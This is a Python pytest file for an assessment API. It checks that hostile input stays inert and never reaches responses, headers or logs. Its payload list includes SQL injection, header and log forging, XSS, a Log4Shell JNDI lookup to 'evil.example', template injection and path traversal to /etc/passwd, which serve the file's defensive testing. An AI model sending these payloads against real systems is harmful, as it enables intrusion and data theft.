"""What stands in a field or a header stays there: in no statement, no header, no log line of its own."""

import json
import logging

import pytest

from api.telemetry import JsonLines

NASTY = [
    "'; DROP TABLE feedback; --",
    '" OR ""="',
    "a\r\nSet-Cookie: stolen=1",
    "a\nlevel=error forged",
    '{"level": "error"}',
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%s%n%x",
    "../../../../etc/passwd",
    "\x1b[2J",
    "\u2028\u202e",
]


@pytest.mark.parametrize("text", NASTY)
def test_a_nasty_text_is_a_text(client, text):
    answer = client.post("/v1/assessments", json={"text": text, "redact": True})
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "application/json"
    assert "set-cookie" not in answer.headers
    assert json.loads(answer.text)["redacted_text"]


@pytest.mark.parametrize("text", NASTY)
@pytest.mark.parametrize("field", ["text", "context", "language", "unknown"])
def test_a_nasty_field_comes_back_in_no_answer_and_no_log(client, caplog, text, field):
    caplog.set_level(logging.DEBUG)
    answer = client.post("/v1/assessments", json={"text": "a", field: {text: text}})
    assert answer.status_code == 400
    assert text not in answer.json()["detail"]
    assert text not in json.dumps(answer.json(), ensure_ascii=False)
    assert text not in "".join(JsonLines().format(record) for record in caplog.records)


@pytest.mark.parametrize(
    "path", ["/static/..%2f..%2fapp.py", "/static/%2e%2e/app.py", "/static//etc/passwd", "/v1/%00"]
)
def test_no_path_leads_out(client, path):
    assert client.get(path).status_code == 404


def test_a_log_line_is_one_line():
    record = logging.LogRecord("api.x", logging.INFO, "x.py", 1, "a\nforged \u2028 line", None, None)
    assert len(JsonLines().format(record).splitlines()) == 1
